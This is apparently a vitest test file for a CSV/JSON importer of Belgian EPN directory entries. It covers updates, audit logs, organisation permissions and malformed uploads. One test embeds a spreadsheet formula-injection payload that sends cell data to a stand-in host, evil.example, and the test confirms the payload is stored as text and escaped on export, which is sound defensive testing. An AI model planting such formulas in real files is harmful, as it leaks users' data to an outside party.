import { expect, it } from 'vitest';
import { describeEachDb } from '@passerelle/db/testing';
import type { Db } from '@passerelle/db';
import { organisation, person, placeFields } from '../test-support.ts';
import { IMPORT_MAX_BYTES, placesToCsv, placesToJson, type ExportPlace } from './place-format.ts';
import { importPlaces, type PlaceFileFormat } from './place-import.ts';

const enc = new TextEncoder();
const HEADER = ['id', 'nom', 'structure_parente', 'adresse', 'code_postal', 'code_nis', 'horaires', 'services'];
const csv = (rows: string[][], delimiter = ',') => [HEADER, ...rows].map((r) => r.join(delimiter)).join('\r\n');

async function exported(db: Db, organisationId: string) {
  const rows = await db.epnPlace.findMany({ where: { organisationId }, include: { organisation: { select: { name: true } } }, orderBy: { name: 'asc' } });
  return rows as ExportPlace[];
}

describeEachDb('epn-survey: importing the EPN directory (Belgian mednum profile)', ({ getDb }) => {
  it('checks first, then updates EPNs matched by id and adds the others, all at once and audited; the same file again changes nothing', async () => {
    const db = getDb();
    const org = await organisation(db, 'Lien');
    const ana = await person(db, { memberships: [{ organisationId: org.id, role: 'member' }] });
    const { id } = await ana.caller.place.create({ organisationId: org.id, place: placeFields('EPN Anneessens') });
    const run = (text: string, dryRun: boolean, format: PlaceFileFormat = 'csv', onProgress?: (d: number, t?: number) => void) => importPlaces({ db, actor: ana.actor, organisationId: org.id, format, upload: enc.encode(text), dryRun, ...(onProgress ? { onProgress } : {}) });
    const file = `\uFEFF${csv(
      [
        [id, 'EPN Anneessens (renamed)', '', 'Rue Haute 1', '1000', '21004', 'Mo-Fr 10:00-16:00', 'Accès internet et matériel informatique|printing'],
        ['from-mednum-42', 'EPN Flagey', 'Someone else', '"Place Flagey 18, bte 2"', '1050', '21009', '', ''],
        ['', 'EPN Molenbeek', '', 'Rue de Ribaucourt 3', '1080', '21012', '', 'wifi']
      ],
      ';'
    )}`;
    expect(await run(file, true)).toMatchObject({ rows: 3, errors: [], created: 2, updated: 1, unchanged: 0, stored: false });
    expect(await db.epnPlace.count({ where: { organisationId: org.id } })).toBe(1);

    const progress: number[] = [];
    expect(await run(file, false, 'csv', (d) => progress.push(d))).toMatchObject({ created: 2, updated: 1, stored: true });
    expect(progress.at(-1)).toBe(3);
    const places = await db.epnPlace.findMany({ where: { organisationId: org.id }, orderBy: { name: 'asc' } });
    expect(places.map((p) => [p.name, p.communeNis, p.services])).toEqual([
      ['EPN Anneessens (renamed)', '21004', ['free_access', 'printing']],
      ['EPN Flagey', '21009', []],
      ['EPN Molenbeek', '21012', ['wifi']]
    ]);
    expect(places.find((p) => p.name === 'EPN Flagey')!.id).toBe('from-mednum-42');
    expect(places.find((p) => p.name === 'EPN Anneessens (renamed)')!.openingHours).toBe('Mo-Fr 10:00-16:00');
    const log = await db.auditLog.findFirstOrThrow({ where: { action: 'epn-survey.place.import', actorId: ana.actor.id } });
    expect(log.data).toMatchObject({ format: 'csv', updated: [id], unchanged: 0 });
    expect((log.data as { created: string[] }).created).toHaveLength(2);

    // The file again (the id-less row is a new EPN each time: without an id, nothing identifies it).
    const withIds = file.split('\r\n').slice(0, 3).join('\r\n');
    expect(await run(withIds, false)).toMatchObject({ created: 0, updated: 0, unchanged: 2, stored: true });
    // The directory's own export, CSV or JSON, imports back unchanged.
    expect(await run(placesToCsv(await exported(db, org.id)), false)).toMatchObject({ rows: 3, created: 0, updated: 0, unchanged: 3 });
    expect(await run(placesToJson(await exported(db, org.id)), false, 'json')).toMatchObject({ rows: 3, created: 0, updated: 0, unchanged: 3 });
    expect(await db.epnPlace.count({ where: { organisationId: org.id } })).toBe(3);
  });

  it("members import into their own organisations only: another organisation's EPN or name is a row error, and nothing is stored", async () => {
    const db = getDb();
    const [a, b] = [await organisation(db, 'Alpha'), await organisation(db, 'Beta')];
    const memberA = await person(db, { memberships: [{ organisationId: a.id, role: 'member' }] });
    const staff = await person(db, { roles: ['staff'] });
    const { id: placeB } = await db.epnPlace.create({ data: { ...placeFields('EPN of Beta'), organisationId: b.id }, select: { id: true } });
    const file = csv([
      [placeB, 'EPN of Beta taken over', '', 'Rue Haute 1', '1000', '21004', '', ''],
      ['', 'EPN New', b.name, 'Rue Haute 2', '1000', '21004', '', ''],
      ['', 'EPN Mine', a.name, 'Rue Haute 3', '1000', '21004', '', ''],
      ['bad id!', 'EPN Odd id', a.name, 'Rue Haute 4', '1000', '21004', '', ''],
      ['', 'EPN Nowhere', a.name, 'Rue Haute 5', '75001', '99999', 'whenever', '']
    ]);
    const report = await importPlaces({ db, actor: memberA.actor, organisationId: null, format: 'csv', upload: enc.encode(file), dryRun: false });
    expect(report.errors.map((e) => [e.line, e.field, e.messageKey])).toEqual([
      [2, 'id', 'epn_survey_error_import_place_other_organisation'],
      [3, 'structure_parente', 'epn_survey_error_import_organisation'],
      [5, 'id', 'epn_survey_error_import_place_id'],
      [6, 'code_postal', 'epn_survey_error_postcode'],
      [6, 'code_nis', 'epn_survey_error_commune'],
      [6, 'horaires', 'epn_survey_error_opening_hours']
    ]);
    expect(report.stored).toBe(false);
    expect(await db.epnPlace.count({ where: { organisationId: { in: [a.id, b.id] } } })).toBe(1);
    expect((await db.epnPlace.findUniqueOrThrow({ where: { id: placeB } })).name).toBe('EPN of Beta');
    await expect(importPlaces({ db, actor: memberA.actor, organisationId: b.id, format: 'csv', upload: enc.encode(file), dryRun: true })).rejects.toMatchObject({ code: 'FORBIDDEN' });

    // Staff import the first three rows into the organisations the rows name.
    const staffReport = await importPlaces({ db, actor: staff.actor, organisationId: null, format: 'csv', upload: enc.encode(file.split('\r\n').slice(0, 4).join('\r\n')), dryRun: false });
    expect(staffReport).toMatchObject({ errors: [], created: 2, updated: 1, stored: true });
    expect((await db.epnPlace.findMany({ where: { organisationId: b.id }, orderBy: { name: 'asc' } })).map((p) => p.name)).toEqual(['EPN New', 'EPN of Beta taken over']);
    expect((await db.epnPlace.findMany({ where: { organisationId: a.id } })).map((p) => p.name)).toEqual(['EPN Mine']);
  });

  it('hostile files: broken CSV, binary garbage, broken JSON, a huge stream, a formula; nothing stored, the formula kept as text and exported escaped', async () => {
    const db = getDb();
    const org = await organisation(db);
    const ana = await person(db, { memberships: [{ organisationId: org.id, role: 'member' }] });
    const run = (upload: Uint8Array | AsyncIterable<Uint8Array>, format: PlaceFileFormat = 'csv') => importPlaces({ db, actor: ana.actor, organisationId: org.id, format, upload, dryRun: false });
    const keys = async (upload: Uint8Array | AsyncIterable<Uint8Array>, format: PlaceFileFormat = 'csv') => (await run(upload, format)).errors.map((e) => [e.line, e.messageKey]);
    expect(await keys(enc.encode(`${csv([['', 'EPN A', '', 'Rue 1', '1000', '21004', '', '']])}\r\n,"EPN B,,Rue 2,1000,21004,,\r\n`))).toEqual([[3, 'epn_survey_error_csv_malformed']]);
    expect(await keys(Uint8Array.from([0x50, 0x4b, 0x03, 0x04, 0xff, 0xfe, 0x00, 0x81, 0xc3, 0x28]))).toEqual([[0, 'epn_survey_error_not_utf8']]);
    expect(await keys(enc.encode('[{"nom": "EPN A", '), 'json')).toEqual([[1, 'epn_survey_error_json_malformed']]);
    expect(await keys(enc.encode('{"nom": "EPN A"}'), 'json')).toEqual([[0, 'epn_survey_error_json_malformed']]);
    expect(await keys(enc.encode('[42, null]'), 'json')).toEqual([
      [1, 'epn_survey_error_json_malformed'],
      [2, 'epn_survey_error_json_malformed']
    ]);
    let pulled = 0;
    async function* huge() {
      const chunk = enc.encode(`${'x'.repeat(64 * 1024 - 2)}\r\n`);
      for (let i = 0; i < 3200; i++) {
        pulled += chunk.length;
        yield chunk;
      }
    }
    expect(await keys(huge())).toEqual([[0, 'epn_survey_error_import_too_big']]);
    expect(pulled).toBeLessThanOrEqual(IMPORT_MAX_BYTES + 64 * 1024);
    expect(await db.epnPlace.count({ where: { organisationId: org.id } })).toBe(0);

    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const file = csv([['', `"${formula.replaceAll('"', '""')}"`, '', 'Rue Haute 1', '1000', '21004', '', '']]);
    expect(await run(enc.encode(file))).toMatchObject({ created: 1, stored: true });
    const stored = await db.epnPlace.findFirstOrThrow({ where: { organisationId: org.id } });
    expect(stored.name).toBe(formula);
    const out = placesToCsv(await exported(db, org.id));
    expect(out).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(await run(enc.encode(out))).toMatchObject({ created: 0, updated: 0, unchanged: 1 });
    expect((await db.epnPlace.findFirstOrThrow({ where: { organisationId: org.id } })).name).toBe(formula);
  });
});
